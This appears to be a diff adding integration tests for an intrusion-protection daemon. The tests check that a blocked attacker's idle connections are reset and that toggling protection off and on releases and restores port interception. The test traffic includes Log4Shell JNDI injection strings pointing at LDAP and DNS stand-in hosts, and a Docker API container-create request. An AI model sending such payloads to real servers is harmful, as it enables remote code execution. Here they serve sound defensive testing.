@@ -167,6 +167,38 @@ test('Log4Shell against a real HTTP server blocks the attacker within 100 ms and
   assert.equal(back.connected, true, 'access restored after unblock');
 });
 
+test("a blocked attacker's existing connections are severed", async () => {
+  await daemon.cli(['unblock', '--all']);
+  // An idle connection the attacker opened before attacking: it must be reset, not left half-open.
+  const held = tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n', hold: 8000 });
+  await waitFor('held connection', async () => ((await prot.exec('ss', ['-Htn', 'state', 'established', `( sport = :8080 and dst ${attacker.ip4} )`])).stdout.trim() !== '' ? true : undefined));
+  await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET /?x=${jndi:dns://203.0.113.5/a} HTTP/1.1\r\nHost: x\r\n\r\n' });
+  const r = await held;
+  assert.equal(r.closed, 'reset', `held connection: ${JSON.stringify(r)}`);
+  const st = JSON.parse((await daemon.cli(['protection', 'status', '--json'])).stdout) as { attackerConnectionsSevered: number };
+  assert.ok(st.attackerConnectionsSevered >= 1);
+  await daemon.cli(['unblock', '--all']);
+});
+
+test('protection off releases the intercepted ports and stops blocking; on brings both back', async () => {
+  await daemon.cli(['unblock', '--all']);
+  const off = await daemon.cli(['protection', 'off', '--json']);
+  assert.equal(off.code, 0, off.stderr);
+  assert.equal((JSON.parse(off.stdout) as { enabled: boolean }).enabled, false);
+  assert.equal((await prot.exec('ss', ['-Hltn', '( sport = :2375 )'])).stdout.trim(), '', 'port released');
+  const before = alerts(daemon).length;
+  await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET /${jndi:ldap://203.0.113.9/x} HTTP/1.1\r\n\r\n' });
+  await new Promise((r) => setTimeout(r, 500));
+  assert.equal(alerts(daemon).length, before, 'no inspection while off');
+  const on = await daemon.cli(['protection', 'on']);
+  assert.equal(on.code, 0, on.stderr);
+  assert.match(on.stdout, /protection:\s+enabled/);
+  await waitFor('port 2375 listening again', async () => ((await prot.exec('ss', ['-Hltn', '( sport = :2375 )'])).stdout.trim() !== '' ? true : undefined));
+  await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET /${jndi:ldap://203.0.113.9/x} HTTP/1.1\r\n\r\n' });
+  await waitFor('alert after protection on', () => alerts(daemon).slice(before).find((a) => a.src_ip === attacker.ip4));
+  await daemon.cli(['unblock', '--all']);
+});
+
 test('an exploit payload split over many small segments to a port nobody listens on is detected and blocked', async () => {
   await daemon.cli(['unblock', '--all']);
   const payload = 'POST /v1.41/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\r\n{"Image":"alpine"}';
